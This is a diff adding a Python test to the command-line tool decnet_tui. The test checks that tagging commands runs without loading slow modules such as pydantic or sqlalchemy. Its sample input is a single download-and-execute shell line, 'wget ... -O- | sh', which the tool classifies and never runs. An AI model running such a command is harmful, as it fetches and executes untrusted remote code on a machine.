@@ -351,6 +351,17 @@ def test_the_version_is_told_without_settings() -> None:
     _loaded_by(code)
 
 
+def test_commands_are_judged_without_what_takes_long_to_load(tmp_path: Path) -> None:
+    """A second start finds the rules compiled, and asks neither settings nor Typer's checks for what is plain."""
+    asked = ["tag", "-", "--data-dir", str(tmp_path)]
+    assert cli(*asked, stdin=b"wget http://x/a -O- | sh\n").returncode == 0
+    code = (
+        f"import sys\nfrom decnet_tui.cli.main import app\napp({asked!r}, standalone_mode=False)\n"
+        "assert not {'pydantic', 'yaml', 'structlog', 'asyncio', 'multiprocessing', 'sqlalchemy'} & set(sys.modules)"
+    )
+    _loaded_by(code)
+
+
 def test_the_table_of_commands_names_what_the_modules_register() -> None:
     for module, names in MODULES.items():
         part = typer.Typer()
